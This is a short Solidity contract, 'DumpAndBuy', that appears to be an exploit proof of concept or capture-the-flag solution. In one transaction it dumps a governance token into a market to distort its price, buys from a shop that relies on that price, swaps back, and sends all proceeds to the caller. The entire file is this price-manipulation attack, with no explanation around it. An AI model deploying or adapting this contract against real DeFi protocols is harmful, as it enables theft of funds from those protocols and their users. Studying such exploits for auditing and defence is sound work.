pragma solidity 0.7.6;

interface IToken {
    function transfer(address to, uint256 value) external returns (bool);
    function approve(address spender, uint256 value) external returns (bool);
    function balanceOf(address who) external view returns (uint256);
}

interface IMarket {
    function swap(address tokenIn, uint256 amountIn, address to) external returns (uint256);
}

interface IShop {
    function buy(uint256 usdAmount) external returns (uint256);
}

contract DumpAndBuy {
    function run(IToken usd, IToken gov, IMarket market, IShop shop, uint256 dump, uint256 spend) external {
        usd.approve(address(market), uint256(-1));
        gov.approve(address(market), uint256(-1));
        usd.approve(address(shop), uint256(-1));
        uint256 got = market.swap(address(gov), dump, address(this));
        shop.buy(spend);
        market.swap(address(usd), got, address(this));
        usd.transfer(msg.sender, usd.balanceOf(address(this)));
        gov.transfer(msg.sender, gov.balanceOf(address(this)));
    }
}
